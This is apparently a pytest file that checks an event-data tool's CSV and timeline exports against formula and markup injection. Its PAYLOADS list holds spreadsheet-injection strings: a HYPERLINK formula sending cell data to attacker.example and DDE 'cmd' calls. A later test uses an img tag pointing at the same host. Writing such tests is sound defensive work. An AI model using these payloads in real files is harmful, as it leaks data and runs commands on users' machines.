"""Hostile text on its way out (issue 13 items 4-5): no spreadsheet formula and no live markup from article text,
manifest metadata or corrections reaches an export, a caption or a row label."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from conftest import synthetic_extraction
from events.spreadsheet import FORMULA_START, neutralise_formula, restore_formula

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted once",
]


def hostile_extraction(tmp_path):
    """The synthetic extraction with attacker text in every text cell that articles, manifests or corrections fill."""
    ex = synthetic_extraction(tmp_path)
    incidents = ex.incidents.copy()
    for i, column in enumerate(("title", "evidence", "actors", "place", "date_text", "admin1", "killed_reports")):
        incidents[column] = [PAYLOADS[(i + k) % len(PAYLOADS)] for k in range(len(incidents))]
    documents = ex.documents.copy()
    documents["publisher"] = [PAYLOADS[k % len(PAYLOADS)] for k in range(len(documents))]
    documents["title"] = [PAYLOADS[(k + 3) % len(PAYLOADS)] for k in range(len(documents))]
    return incidents, ex.mentions, documents


def _is_live_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and not neutralise_formula(cell) == cell


@pytest.mark.parametrize("fmt", ["csv", "acled", "timelinejs"])
def test_csv_exports_read_back_with_formulas_neutralised(tmp_path, fmt):
    from events.exports import export_bytes

    incidents, mentions, documents = hostile_extraction(tmp_path)
    data, _, _ = export_bytes(fmt, incidents, mentions, documents, corpus="hostile")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert body
    live = [(header[i], cell) for row in body for i, cell in enumerate(row) if _is_live_formula(cell)]
    assert live == []
    cells = [cell for row in body for cell in row]
    assert any(cell.startswith("'=HYPERLINK") or "'=HYPERLINK" in cell for cell in cells) or fmt != "csv"
    if fmt == "acled":  # numbers stay numbers: coordinates and fatalities
        for row in body:
            record = dict(zip(header, row))
            for column in ("latitude", "longitude", "fatalities"):
                if record[column]:
                    float(record[column])


def test_csv_export_keeps_numbers_as_numbers(tmp_path):
    from events.exports import export_bytes

    incidents, mentions, documents = hostile_extraction(tmp_path)
    incidents.loc[0, ["lat", "lon"]] = [-33.8688, -151.2093]
    data, _, _ = export_bytes("csv", incidents, mentions, documents)
    frame = pd.read_csv(io.BytesIO(data))
    assert frame["lat"].min() == pytest.approx(-33.8688) and pd.api.types.is_numeric_dtype(frame["killed"])


def test_neutralising_is_undone_exactly():
    for value in [*PAYLOADS, "''=twice", "'plain", "plain", "-12", "-33.8000", "+4", "1,234", "", "-", "'-"]:
        assert restore_formula(neutralise_formula(value)) == value
    assert neutralise_formula("-12") == "-12" and neutralise_formula("=1") == "'=1"
    assert neutralise_formula(12) == 12 and neutralise_formula(None) is None


def test_corrected_table_import_undoes_the_neutralising(tmp_path):
    from events.store import CorrectionStore, apply_corrections, export_corrected_csv, import_corrected_csv

    incidents, mentions, _ = hostile_extraction(tmp_path)
    store = CorrectionStore(tmp_path / "corrections.sqlite", incidents=incidents, mentions=mentions)
    corrected, _ = apply_corrections(incidents, mentions, store)
    data = export_corrected_csv(corrected)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert not [cell for row in rows[1:] for cell in row if _is_live_formula(cell)]
    report = import_corrected_csv(store, data, corrected)
    assert report.applied == [] and report.problems == []  # the apostrophes are not read as edits
    edited = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    edited.loc[0, "title"] = "'=SUM(A1:A9)"  # an analyst's own title, as the export wrote such text
    report = import_corrected_csv(store, edited.to_csv(index=False, lineterminator="\r\n").encode(), corrected,
                                  user="sheet")
    assert len(report.applied) == 1
    assert [c.payload for c in store.corrections()][-1] == {"fields": {"title": "=SUM(A1:A9)"}}


def test_timelinejs_display_date_is_escaped(tmp_path):
    from events.exports import export_bytes

    incidents, mentions, documents = hostile_extraction(tmp_path)
    incidents["date_text"] = '<img src="http://attacker.example/b.png">'
    data, _, _ = export_bytes("timelinejs", incidents, mentions, documents)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    shown = [r["Display Date"] for r in rows if r["Display Date"]]
    assert shown and all("<img" not in d and "&lt;img" in d for d in shown)
